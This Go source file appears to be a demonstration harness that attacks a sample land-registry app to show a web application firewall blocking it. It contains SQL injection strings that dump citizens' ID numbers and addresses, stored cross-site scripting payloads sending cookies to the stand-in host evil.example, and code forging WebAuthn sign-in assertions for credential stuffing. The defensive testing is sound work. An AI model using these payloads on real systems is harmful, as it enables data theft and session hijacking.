package demo

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"pasban"
	"pasban/examples/landregistry"
)

// campaignHosts is how many addresses an attack campaign comes from.
const campaignHosts = 8

// campaign sends attacks by the members of a crowd in turn and judges each:
// got says what the answer brought the attacker, "" if nothing. It returns the
// traces of those whose refusal named the incident that they were recorded as.
func (s *story) campaign(ctx context.Context, b *Beat, crowd []*visitor, list []attack, send func(*visitor, attack) (answer, error), got func(answer) string) (traces []trace, err error) {
	for i, a := range list {
		who := crowd[i%len(crowd)]
		resp, err := send(who, a)
		if err != nil {
			return traces, fmt.Errorf("attack %s: %w", a.ID, err)
		}
		b.Tried++
		gain := got(resp)
		if gain == "" && resp.Status >= 400 {
			b.Blocked++
		} else {
			b.fail("%s got through: status %d %s", a.ID, resp.Status, gain)
		}
		if id := resp.incident(); id != "" {
			traces = append(traces, trace{who, id})
		}
	}
	return traces, ctx.Err()
}

// searchFor is the public search with something typed into the khasra field.
func searchFor(p landregistry.Plot, khasra string) string {
	return "/records/search?" + url.Values{"district": {p.District}, "mouza": {p.Mouza}, "khasra": {khasra}}.Encode()
}

// everybody is the exploit of the land registry's SQL injection: the list of
// plots becomes a list of people.
const everybody = `' UNION SELECT cnic, name, mobile, 0, 0, address FROM owners -- `

// holeOne are ways to write the exploit, as an attacker tries them.
func holeOne() []attack {
	return []attack{
		{"own hole, plain", everybody},
		{"own hole, upper and lower case", `' uNiOn aLl sElEcT cnic, name, mobile, 0, 0, address fRoM owners -- `},
		{"own hole, comments for spaces", `'/**/UNION/**/SELECT/**/cnic,name,mobile,0,0,address/**/FROM/**/owners--/**/`},
		{"own hole, always true", `x' OR '1'='1`},
		{"own hole, subquery", `' UNION SELECT (SELECT group_concat(cnic) FROM owners), '', '', 0, 0, '' -- `},
	}
}

// sqlInjection plays the Core Rule Set's SQL injections, and exploits of the
// land registry's own hole, against the public search.
func (s *story) sqlInjection(ctx context.Context, b *Beat) error {
	start := time.Now()
	plot := s.people.Holdings[0].Plot
	unguarded, err := s.unguarded(ctx, searchFor(plot, everybody))
	if err != nil {
		return err
	}
	leaked := s.peopleIn(unguarded)
	if leaked == 0 {
		return fmt.Errorf("the exploit does not work on the unguarded land registry: this beat would prove nothing")
	}
	list, err := attacks(sqliCases)
	if err != nil {
		return err
	}
	list = append(list, holeOne()...)
	s.paper.say("hole", "the unguarded land registry gives %d people's data to one such request", leaked)
	s.paper.say("tried", "%d requests to its search: the attack cases of the OWASP Core Rule Set's own suite, and exploits of that hole, from %d addresses",
		len(list), campaignHosts)
	crowd := make([]*visitor, campaignHosts)
	for i := range crowd {
		crowd[i] = s.stranger("attacker")
		defer crowd[i].close()
	}
	traces, err := s.campaign(ctx, b, crowd, list, func(v *visitor, a attack) (answer, error) {
		return v.get(ctx, searchFor(plot, a.Payload), wantJSON)
	}, func(a answer) string {
		if n := s.peopleIn(a.Body); n > 0 {
			return fmt.Sprintf("with data of %d people", n)
		}
		return ""
	})
	if err != nil {
		return err
	}
	s.paper.say("pasban", "stopped %d of %d before they reached the land registry; no row about a person left it", b.Blocked, b.Tried)
	if err := s.detection(ctx, b, start, traces, "sql injection"); err != nil {
		return err
	}
	a, err := s.stranger("citizen").get(ctx, searchFor(plot, plot.Khasra), wantPage)
	if b.legitimate(a, err, "the same search by somebody else") && !strings.Contains(a.Body, plot.Khasra) {
		b.fail("the search no longer finds plot %s", plot.Path())
	}
	return nil
}

// peopleIn counts the citizens whose numbers a page shows.
func (s *story) peopleIn(page string) int {
	found, _ := pasban.FindCNICs([]byte(page), len(s.people.Citizens))
	return len(found)
}

// unguarded asks a fresh copy of the land registry, with the same people, that
// nobody guards: what an attack brings there is what Pasban keeps.
func (s *story) unguarded(ctx context.Context, paths ...string) (string, error) {
	dir, err := os.MkdirTemp(s.dir, "unguarded-")
	if err != nil {
		return "", err
	}
	defer os.RemoveAll(dir)
	app, err := landregistry.New(ctx, landregistry.Options{DSN: filepath.Join(dir, legacyFile)})
	if err != nil {
		return "", err
	}
	defer app.Close()
	if err := s.people.SeedLegacy(ctx, app); err != nil {
		return "", err
	}
	var page strings.Builder
	for _, p := range paths {
		method, body := http.MethodGet, ""
		if form, ok := strings.CutPrefix(p, "POST "); ok {
			method, p, body = http.MethodPost, "/mutations", form
		}
		req := httptest.NewRequestWithContext(ctx, method, p, strings.NewReader(body))
		if body != "" {
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
		w := httptest.NewRecorder()
		app.ServeHTTP(w, req)
		page.WriteString(w.Body.String())
	}
	return page.String(), nil
}

// mutationForm is a mutation from one citizen to another.
func mutationForm(h landregistry.Holding, to pasban.CNIC, note string) url.Values {
	return url.Values{
		"district": {h.District}, "mouza": {h.Mouza}, "khasra": {h.Khasra},
		"from": {h.CNIC}, "to": {string(to)}, "kind": {"sale"}, "note": {note},
	}
}

// holeTwo are scripts for the note of a mutation.
func holeTwo() []attack {
	return []attack{
		{"own hole, script", `<script>fetch('//evil.example/?c='+document.cookie)</script>`},
		{"own hole, event", `<img src=x onerror="new Image().src='//evil.example/?c='+document.cookie">`},
		{"own hole, svg", `<svg/onload=alert(document.domain)>`},
		{"own hole, javascript address", `<a href="javascript:alert(1)">receipt</a>`},
	}
}

// crossSiteScripting tries to leave a script in a mutation's note, with the
// session of an officer: an insider, or somebody who took the session over.
// Without the firewall every one of them would be stored.
func (s *story) crossSiteScripting(ctx context.Context, b *Beat) error {
	start := time.Now()
	h := s.people.Holdings[0]
	to := s.people.Citizens[len(s.people.Citizens)-1].CNIC
	script := holeTwo()[0]
	page, err := s.unguarded(ctx, "POST "+mutationForm(h, to, script.Payload).Encode(), "/mutations")
	if err != nil {
		return err
	}
	if !strings.Contains(page, script.Payload) {
		return fmt.Errorf("the exploit does not work on the unguarded land registry: this beat would prove nothing")
	}
	list, err := attacks(xssCases)
	if err != nil {
		return err
	}
	list = append(list, holeTwo()...)
	before, err := s.notes(ctx)
	if err != nil {
		return err
	}
	clerk, err := s.atWork(ctx, s.people.With(pasban.RoleOfficer)[officers-2], "mutation", "SYN-MUT-800")
	if err != nil {
		return err
	}
	defer clerk.close()
	s.paper.say("hole", "the unguarded land registry stores a script in a mutation's note and serves it to every later visitor")
	s.paper.say("tried", "%d mutations whose note is an attack case of the Core Rule Set's suite or an exploit of that hole, sent with the session of %s, which was taken over",
		len(list), clerk.who)
	traces, err := s.campaign(ctx, b, []*visitor{clerk}, list, func(v *visitor, a attack) (answer, error) {
		return v.post(ctx, "/mutations", wantJSON, mutationForm(h, to, a.Payload))
	}, func(answer) string { return "" })
	if err != nil {
		return err
	}
	after, err := s.notes(ctx)
	if err != nil {
		return err
	}
	if after != before {
		b.fail("the list of mutations has changed: something was stored")
	}
	s.paper.say("pasban", "stopped %d of %d; the land registry's list of mutations is what it was, byte for byte", b.Blocked, b.Tried)
	return s.detection(ctx, b, start, traces, "cross-site scripting")
}

// notes is the list of mutations as the land registry itself shows it, behind
// Pasban's back.
func (s *story) notes(ctx context.Context) (string, error) {
	w := httptest.NewRecorder()
	s.legacy.ServeHTTP(w, httptest.NewRequestWithContext(ctx, http.MethodGet, "/mutations", nil))
	if w.Code != http.StatusOK {
		return "", fmt.Errorf("the land registry's list of mutations: status %d", w.Code)
	}
	return w.Body.String(), nil
}

// stuffingAttempts is how many stolen or made-up credentials are tried.
const stuffingAttempts = 60

// credentialStuffing tries made-up passkeys of one address, each signed by a
// key of its own over the challenge that the node gave, as a bot would that
// has a list of credential ids.
func (s *story) credentialStuffing(ctx context.Context, b *Beat) error {
	start := time.Now()
	bot := s.stranger("bot")
	defer bot.close()
	s.paper.say("tried", "%d sign-ins with made-up passkeys, each correctly signed with a key of its own", stuffingAttempts)
	var traces []trace
	slowed := 0
	for i := range stuffingAttempts {
		begin, err := bot.postJSON(ctx, "/pasban/signin/begin", struct{}{})
		if err != nil {
			return err
		}
		finish, err := bot.do(ctx, http.MethodPost, "/pasban/signin/finish", wantJSON, "application/json", s.forgedAssertion(begin.Body, i))
		if err != nil {
			return err
		}
		b.Tried++
		traces = append(traces, trace{by: bot})
		if finish.Status == http.StatusTooManyRequests {
			slowed++
		}
		if !finish.ok() && bot.session() == "" {
			b.Blocked++
			continue
		}
		b.fail("attempt %d got through: status %d", i+1, finish.Status)
	}
	s.paper.say("pasban", "let nobody in, and did not even look at the last %d: the address had used up its attempts", slowed)
	return s.detection(ctx, b, start, traces, "failed sign-ins")
}

// forgedAssertion is the answer of an authenticator that the node has never
// seen (Web Authentication, section 7.2): everything in it is right but the key.
func (s *story) forgedAssertion(begin string, i int) []byte {
	var options struct {
		PublicKey struct {
			Challenge string `json:"challenge"`
			RPID      string `json:"rpId"`
		} `json:"publicKey"`
	}
	_ = json.Unmarshal([]byte(begin), &options) // without a challenge the forgery is only worse
	b64 := base64.RawURLEncoding
	client, _ := json.Marshal(map[string]any{"type": "webauthn.get", "challenge": options.PublicKey.Challenge, "origin": s.net.base, "crossOrigin": false})
	rp := sha256.Sum256([]byte(options.PublicKey.RPID))
	authenticator := append(rp[:], 0x05, 0, 0, 0, byte(i+1)) // user present and verified; counter
	digest := sha256.Sum256(client)
	signed := sha256.Sum256(append(authenticator[:len(authenticator):len(authenticator)], digest[:]...))
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err) // crypto/rand does not fail
	}
	sig, err := ecdsa.SignASN1(rand.Reader, key, signed[:])
	if err != nil {
		panic(err) // a P-256 key signs any digest
	}
	id := sha256.Sum256(fmt.Appendf(nil, "stolen credential %d", i))
	handle := s.people.Citizens[i%len(s.people.Citizens)].CNIC
	data, _ := json.Marshal(map[string]any{
		"id": b64.EncodeToString(id[:]), "rawId": b64.EncodeToString(id[:]), "type": "public-key",
		"authenticatorAttachment": "platform", "clientExtensionResults": struct{}{},
		"response": map[string]string{
			"clientDataJSON": b64.EncodeToString(client), "authenticatorData": b64.EncodeToString(authenticator),
			"signature": b64.EncodeToString(sig), "userHandle": b64.EncodeToString([]byte(handle)),
		},
	})
	return data
}
